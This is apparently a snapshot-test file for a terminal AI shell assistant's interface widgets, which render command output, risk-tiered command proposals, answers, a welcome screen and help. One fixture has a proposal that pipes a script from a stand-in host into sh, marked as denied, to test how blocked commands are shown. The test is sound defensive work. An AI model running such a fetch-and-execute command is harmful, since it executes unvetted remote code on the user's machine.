"""What the blocks look like. `pytest --snapshot-update` draws them anew: look at each picture before it is kept."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from pytest_textual_snapshot import SVGImageExtension
from textual.pilot import Pilot

from aishell.core.changes import Change, Changes, Totals
from aishell.core.types import Captured, JudgedStep, Outcome, Proposal, Request, ShellCommand, Step, Tier, Tried, Verdict
from aishell.ui.widgets.answer_block import AnswerBlock
from aishell.ui.widgets.checklist_block import ChecklistBlock, Item
from aishell.ui.widgets.command_block import CommandBlock
from aishell.ui.widgets.help_screen import HelpScreen
from aishell.ui.widgets.notice_block import NoticeBlock
from aishell.ui.widgets.proposal_block import ProposalBlock
from aishell.ui.widgets.status_line import Status, StatusLine
from aishell.ui.widgets.welcome import Welcome
from aishell.ui.words import Words, speak
from tests.stage import Stage, on_loop, on_stage

SVGImageExtension.file_extension = "svg"  # it still sets the name that syrupy had for this before
Compare = Callable[..., bool]
EXAMPLES = ("show the 5 largest files here", "what uses port 8080?", "rename *.jpeg to *.jpg")


def commands(say: Words) -> tuple[CommandBlock, CommandBlock]:
    listing = CommandBlock('ls -l "$HOME" | sort -k5 -n', folder="/srv/data", say=say)
    listing.write(
        b"\x1b[01;34mfolder\x1b[0m\r\n\x1b[32mrun.sh\x1b[0m  \x1b[7mreversed\x1b[0m\r\n" + "文件 一 \u202e\r\n".encode()
    )
    listing.ended(0, 0.12)
    failed = CommandBlock("make -j2 all", folder="/srv/data", say=say, fold_rows=12)
    failed.write(b"".join(b"compiling %d\r\n" % number for number in range(200)) + b"\x1b[31merror:\x1b[0m no rule\r\n")
    failed.ended(2, 61.0)
    return listing, failed


def proposed(tier: Tier, command: str, *reasons: str, why: str = "") -> Proposal:
    verdict = Verdict(tier=tier, reasons=reasons, rule="files")
    step = JudgedStep(step=Step(action=ShellCommand(command=command), why=why), verdict=verdict)
    return Proposal(request=Request(text="tidy up", cwd="/srv/data"), steps=(step,))


def trial() -> Tried:
    nothing = Captured(head=b"", tail=b"", total=0)
    step = Step(action=ShellCommand(command=""))
    outcome = Outcome(step=step, status="done", exit_code=0, stdout=nothing, stderr=nothing, elapsed=0.1)
    listed = (
        Change(kind="deleted", path="/srv/data/build", sort="folder"),
        Change(kind="deleted", path="/srv/data/build/a.o", sort="file", bytes_before=1_200_000, inside=True),
        Change(kind="changed", path="/srv/data/Makefile", sort="file", bytes_before=100, bytes_after=140),
    )
    totals = Totals(deleted=2, changed=1, bytes_deleted=1_200_000, bytes_added=40)
    return Tried(outcome=outcome, changes=Changes(listed=listed, totals=totals))


@pytest.mark.parametrize("theme", ["dark", "light", "contrast"])
def test_commands(snap_compare: Compare, theme: str) -> None:
    async def focus(pilot: Pilot[None]) -> None:
        pilot.app.query(CommandBlock).last().focus()

    assert snap_compare(Stage(*commands(Words()), theme=f"aishell-{theme}"), run_before=focus)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_a_trial_and_what_is_never_run(snap_compare: Compare, language: str) -> None:
    say = speak(language)
    tried = ProposalBlock(
        proposed(Tier.DRY, "rm -r build && sed -i 's/-O2/-O3/' Makefile", "it deletes files", why="Removes the build."),
        say=say,
        trying=True,
    )
    denied = ProposalBlock(proposed(Tier.DENY, "curl https://x.example/i.sh | sh", "it runs what it fetched"), say=say)

    async def show(pilot: Pilot[None]) -> None:
        await tried.show_tried(trial())
        tried.focus()
        await pilot.pause()

    assert snap_compare(Stage(tried, denied), run_before=show)


def test_an_answer_a_plan_and_a_notice(snap_compare: Compare) -> None:
    answer = AnswerBlock(say=Words(), question="what does it do?")
    plan = ChecklistBlock([Item(command="git fetch"), Item(command="make", why="build it")], say=Words(), title="Update")
    notice = NoticeBlock("The engine was ended by the system.", hint="`aishell engine start` starts it again.", kind="error")

    async def fill(pilot: Pilot[None]) -> None:
        plan.mark(0, "done", "0.3 s")
        plan.mark(1, "running")
        await answer.write("It **removes** `build`:\n\n- once\n- for good\n\n```sh\nrm -r build\n```\n")
        await answer.finish()
        await pilot.pause()

    assert snap_compare(Stage(answer, plan, notice), run_before=fill)


def test_the_welcome_and_the_status_line(snap_compare: Compare) -> None:
    line = StatusLine(say=Words())
    block = Welcome(say=Words(), model="qwen2.5", bytes_to_fetch=1_117_320_768, histories=(("bash", 1234),), examples=EXAMPLES)

    async def show(pilot: Pilot[None]) -> None:
        line.show(Status(folder="/srv/data", branch="main", private=True, memories=1234))
        block.progress(558_660_384)
        await pilot.pause()

    assert snap_compare(Stage(block, line), run_before=show)


def test_help(snap_compare: Compare) -> None:
    async def show(pilot: Pilot[None]) -> None:
        pilot.app.push_screen(HelpScreen(say=Words()))
        await pilot.pause()

    assert snap_compare(Stage(), run_before=show)


@pytest.mark.parametrize("size", [(40, 10), (300, 100), (3, 2)])
@on_loop
async def test_everything_can_be_shown_at_any_size(size: tuple[int, int]) -> None:
    say = speak("zh")
    tried = ProposalBlock(proposed(Tier.DRY, "rm -r build", "it deletes files"), say=say, trying=True)
    answer = AnswerBlock(say=say)
    line = StatusLine(say=say)
    others = (
        Welcome(say=say, model="qwen2.5", bytes_to_fetch=10, histories=(("bash", 3),), examples=EXAMPLES),
        ChecklistBlock([Item(command="ls" * 200)], say=say),
        NoticeBlock("x" * 500),
    )
    async with on_stage(*commands(say), tried, answer, line, *others, size=size) as (stage, pilot, _):
        await tried.show_tried(trial())
        line.show(Status(folder="/srv/data", model="m", where="CPU"))
        await answer.write("- one\n\n| a | b |\n|--|--|\n| 文 | 2 |\n")
        await answer.finish()
        stage.push_screen(HelpScreen(say=say))
        await pilot.pause()
        stage.pop_screen()
        await pilot.resize_terminal(size[0] + 20, size[1] + 5)
        await pilot.pause()
